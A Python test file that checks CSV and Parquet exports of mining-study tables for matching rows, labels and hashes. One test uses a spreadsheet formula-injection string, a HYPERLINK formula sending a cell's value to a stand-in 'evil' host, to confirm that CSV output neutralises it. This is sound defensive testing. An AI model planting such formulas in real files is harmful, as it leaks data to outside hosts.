"""Tables of a study as files: both forms hold the same rows, with label and hash."""

import csv
import io

import pyarrow.parquet
import pytest

from tailings.study import net_values, tables
from tailings.study.sample_table import SampleRow
from tests.tailings.study.example import result

LABEL = tables.Label("demo", 3, "a" * 64, "b" * 64, "CC-BY-4.0")


@pytest.mark.parametrize("name", tables.TABLES)
def test_csv_and_parquet_hold_the_same(name: str) -> None:
    """As many rows, the same names, the same numbers; the label stands in each row and in the metadata."""
    drawn = net_values(result(), {})
    text, packed = (tables.file(name, form, result(), drawn, LABEL) for form in ("csv", "parquet"))
    rows = list(csv.DictReader(io.StringIO(text.decode())))
    stored = pyarrow.parquet.read_table(io.BytesIO(packed))

    assert stored.column_names == list(rows[0])
    assert [[str(cell) for cell in row.values()] for row in stored.to_pylist()] == [list(row.values()) for row in rows]
    assert {row["samples_sha256"] for row in rows} == {LABEL.samples_sha256}
    assert all(row["synthetic"] for row in rows)
    assert b"CC-BY-4.0" in stored.schema.metadata[b"tailwatch"]


def test_composites_are_those_that_the_strip_logs_draw() -> None:
    """Each of every hole once, with the place of the hole, its depths and the grade that was estimated from."""
    found = tables.columns("composites", result(), net_values(result(), {}), LABEL)
    drawn = [(one.hole, one.collar_m, *bar) for one in result().strips for bar in one.composite]

    assert len(drawn) == result().composites
    assert (
        list(
            zip(
                found["hole"],
                found["collar_m_asl"],
                found["top_m"],
                found["bottom_m"],
                found["W_mg_per_kg"],
                strict=True,
            )
        )
        == drawn
    )


def test_an_id_of_a_sample_is_never_a_formula() -> None:
    """A laboratory's file may hold any text; as CSV it is marked as text, as Parquet it is what it was."""
    drawn, text = net_values(result(), {}), '=HYPERLINK("http://evil/?"&A1)'
    samples = [SampleRow(text, 1, *["" if one != "assays" else [] for one in SampleRow._fields[2:]])]
    found, packed = (
        tables.file("samples", form, result(), drawn, LABEL, samples=samples) for form in ("csv", "parquet")
    )
    (row,) = csv.DictReader(io.StringIO(found.decode(), newline=""))

    assert row["sample"] == "'" + text
    assert pyarrow.parquet.read_table(io.BytesIO(packed))["sample"].to_pylist() == [text]
